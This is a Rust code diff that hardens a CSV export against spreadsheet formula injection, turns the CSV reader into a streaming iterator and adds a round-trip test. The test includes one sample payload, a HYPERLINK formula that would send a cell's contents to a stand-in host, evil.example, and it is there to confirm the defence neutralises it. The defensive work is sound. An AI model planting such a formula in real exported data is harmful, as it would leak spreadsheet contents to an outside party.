@@ -217,7 +217,7 @@ fn flatten<T: Serialize>(item: &T, columns: &[&str]) -> Result<std::collections:
                 }
             }
             Value::String(text) => {
-                cells.insert(prefix.to_owned(), text.clone());
+                cells.insert(prefix.to_owned(), neutralised(text).into_owned());
             }
             Value::Object(_) | Value::Array(_) | Value::Bool(_) | Value::Number(_) => {
                 cells.insert(prefix.to_owned(), value.to_string());
@@ -228,6 +228,30 @@ fn flatten<T: Serialize>(item: &T, columns: &[&str]) -> Result<std::collections:
     let mut cells = std::collections::HashMap::new();
     walk("", &value, columns, &mut cells);
     Ok(cells)
+}
+
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV
+/// injection"): `=`, `+`, `-`, `@`, tab and carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as exported: one that a spreadsheet would take for a formula gets a leading `'`,
+/// which spreadsheets show as text (OWASP's advice against CSV injection); so does one that
+/// already begins with `'`, so that [`unneutralised`] can take exactly one `'` off on import.
+pub fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(FORMULA_STARTS) || text.starts_with('\'') {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// A text cell as imported: the `'` that [`neutralised`] put before a formula character or a
+/// `'` is taken off, so that an exported file imports as the records it came from.
+pub fn unneutralised(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) || rest.starts_with('\'') => rest,
+        _ => cell,
+    }
 }
 
 /// Appends one CSV record (RFC 4180: `,` separated, CRLF ended); a cell with a separator, a
@@ -264,6 +288,24 @@ pub struct CsvTable {
 pub struct CsvError(pub String);
 
 pub fn read_table(bytes: &[u8]) -> Result<CsvTable, CsvError> {
+    let reader = read_records(bytes)?;
+    let header = reader.header.clone();
+    let records = reader
+        .map(|record| record.map(|(_, cells)| cells))
+        .collect::<Result<_, _>>()?;
+    Ok(CsvTable { header, records })
+}
+
+/// A CSV file read one record at a time (the rules of [`CsvTable`]), so that a large file never
+/// stands in memory as a table: its header, then each data record with the line it starts on.
+#[derive(Debug)]
+pub struct CsvRecords<'a> {
+    pub header: Vec<String>,
+    records: Records<'a>,
+}
+
+/// Checks the encoding and reads the header line of a CSV file.
+pub fn read_records(bytes: &[u8]) -> Result<CsvRecords<'_>, CsvError> {
     let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
     let text = std::str::from_utf8(bytes).map_err(|e| {
         let line = 1 + bytes[..e.valid_up_to()].iter().filter(|b| **b == b'\n').count();
@@ -279,30 +321,71 @@ pub fn read_table(bytes: &[u8]) -> Result<CsvTable, CsvError> {
         ));
     }
     let separator = if first_line.contains(';') { ';' } else { ',' };
-    let mut records = parse_records(text, separator)?;
-    let header = records.remove(0).1;
-    for (line, record) in &records {
-        if record.len() != header.len() {
-            return Err(CsvError(format!(
-                "line {line} has {} cells; the header has {} (separator `{separator}`)",
-                record.len(),
-                header.len()
-            )));
-        }
-    }
-    Ok(CsvTable {
-        header,
-        records: records.into_iter().map(|(_, record)| record).collect(),
-    })
+    let mut records = Records {
+        chars: text.chars().peekable(),
+        line: 1,
+        separator,
+    };
+    let header = match records.next() {
+        Some(header) => header?.1,
+        None => Vec::new(),
+    };
+    Ok(CsvRecords { header, records })
 }
 
-/// The records of `text` with the line each starts on; blank lines are skipped.
-fn parse_records(text: &str, separator: char) -> Result<Vec<(usize, Vec<String>)>, CsvError> {
-    let mut records = Vec::new();
-    let mut chars = text.chars().peekable();
-    let mut line = 1;
-    while chars.peek().is_some() {
-        let start = line;
+impl Iterator for CsvRecords<'_> {
+    type Item = Result<(usize, Vec<String>), CsvError>;
+
+    fn next(&mut self) -> Option<Self::Item> {
+        let (line, record) = match self.records.next()? {
+            Ok(record) => record,
+            Err(error) => return Some(Err(error)),
+        };
+        if record.len() != self.header.len() {
+            return Some(Err(CsvError(format!(
+                "line {line} has {} cells; the header has {} (separator `{}`)",
+                record.len(),
+                self.header.len(),
+                self.records.separator
+            ))));
+        }
+        Some(Ok((line, record)))
+    }
+}
+
+/// The records of a text with the line each starts on; blank lines are skipped.
+#[derive(Debug)]
+struct Records<'a> {
+    chars: std::iter::Peekable<std::str::Chars<'a>>,
+    line: usize,
+    separator: char,
+}
+
+impl Iterator for Records<'_> {
+    type Item = Result<(usize, Vec<String>), CsvError>;
+
+    fn next(&mut self) -> Option<Self::Item> {
+        loop {
+            self.chars.peek()?;
+            match self.record() {
+                Ok(Some(record)) => return Some(Ok(record)),
+                Ok(None) => {}
+                Err(error) => {
+                    // Nothing is read after a malformed record.
+                    self.chars = "".chars().peekable();
+                    return Some(Err(error));
+                }
+            }
+        }
+    }
+}
+
+impl Records<'_> {
+    /// The next record, `None` for a blank line.
+    fn record(&mut self) -> Result<Option<(usize, Vec<String>)>, CsvError> {
+        let separator = self.separator;
+        let chars = &mut self.chars;
+        let start = self.line;
         let mut record = Vec::new();
         let mut cell = String::new();
         let mut quoted = false;
@@ -314,7 +397,7 @@ fn parse_records(text: &str, separator: char) -> Result<Vec<(usize, Vec<String>)
                 }
                 Some('"') if cell.is_empty() && !quoted => {
                     quoted = true;
-                    let opened = line;
+                    let opened = self.line;
                     loop {
                         match chars.next() {
                             None => {
@@ -329,7 +412,7 @@ fn parse_records(text: &str, separator: char) -> Result<Vec<(usize, Vec<String>)
                             Some('"') => break,
                             Some(c) => {
                                 if c == '\n' {
-                                    line += 1;
+                                    self.line += 1;
                                 }
                                 cell.push(c);
                             }
@@ -340,14 +423,16 @@ fn parse_records(text: &str, separator: char) -> Result<Vec<(usize, Vec<String>)
                         Some(c) if *c == separator => {}
                         Some(_) => {
                             return Err(CsvError(format!(
-                                "line {line}: text follows the closing quote of a cell; double a quote inside a quoted cell (\"\")"
+                                "line {}: text follows the closing quote of a cell; double a quote inside a quoted cell (\"\")",
+                                self.line
                             )));
                         }
                     }
                 }
                 Some('"') => {
                     return Err(CsvError(format!(
-                        "line {line}: a quote inside an unquoted cell; quote the whole cell and double the quote"
+                        "line {}: a quote inside an unquoted cell; quote the whole cell and double the quote",
+                        self.line
                     )));
                 }
                 Some(c) if c == separator => {
@@ -356,7 +441,7 @@ fn parse_records(text: &str, separator: char) -> Result<Vec<(usize, Vec<String>)
                 }
                 Some('\r') if chars.peek() == Some(&'\n') => {}
                 Some('\r' | '\n') => {
-                    line += 1;
+                    self.line += 1;
                     record.push(std::mem::take(&mut cell));
                     break;
                 }
@@ -364,11 +449,8 @@ fn parse_records(text: &str, separator: char) -> Result<Vec<(usize, Vec<String>)
             }
         }
         let blank = record.len() == 1 && record[0].is_empty() && !quoted;
-        if !blank {
-            records.push((start, record));
-        }
+        Ok((!blank).then_some((start, record)))
     }
-    Ok(records)
 }
 
 /// Every list that answers CSV, with its columns: what the OpenAPI document shows.
@@ -420,7 +502,9 @@ impl Modify for CsvLists {
                 let mut description = format!(
                     "With `Accept: text/csv`: every row from `{start}` (or the start) to the end, as CSV whose \
                      header is the example; an array, or an object named by a column, is one cell of compact \
-                     JSON text; confidential columns only for callers who see them."
+                     JSON text; confidential columns only for callers who see them. A text cell that begins \
+                     with `=`, `+`, `-`, `@`, a tab or a carriage return (or with `'`) gets a leading `'`, so \
+                     that no spreadsheet runs it as a formula; the bulk import takes it off again."
                 );
                 if !columns.confidential.is_empty() {
                     description.push_str(&format!(" Confidential columns: {}.", columns.confidential.join(", ")));
@@ -492,6 +576,29 @@ mod tests {
         assert_eq!(back.header, ["id", "name"]);
         assert_eq!(back.records[0][1], "Le \"Club\", Lodève;\nsuite");
         assert_eq!(back.records[1], ["2", ""]);
+    }
+
+    #[test]
+    fn neutralised_cells_cannot_be_formulas_and_unneutralised_gives_them_back() {
+        for (text, exported) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            ),
+            ("+33 4 67 00 00 00", "'+33 4 67 00 00 00"),
+            ("-1", "'-1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tcmd", "'\tcmd"),
+            ("\rcmd", "'\rcmd"),
+            ("'quoted", "''quoted"),
+            ("'", "''"),
+            ("Lodève = ESS", "Lodève = ESS"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralised(text), exported, "{text:?}");
+            assert_eq!(unneutralised(exported), text, "{exported:?} imports as it was exported");
+        }
+        assert_eq!(unneutralised("'abc"), "'abc", "a ' before plain text is the cell's own");
     }
 
     #[test]
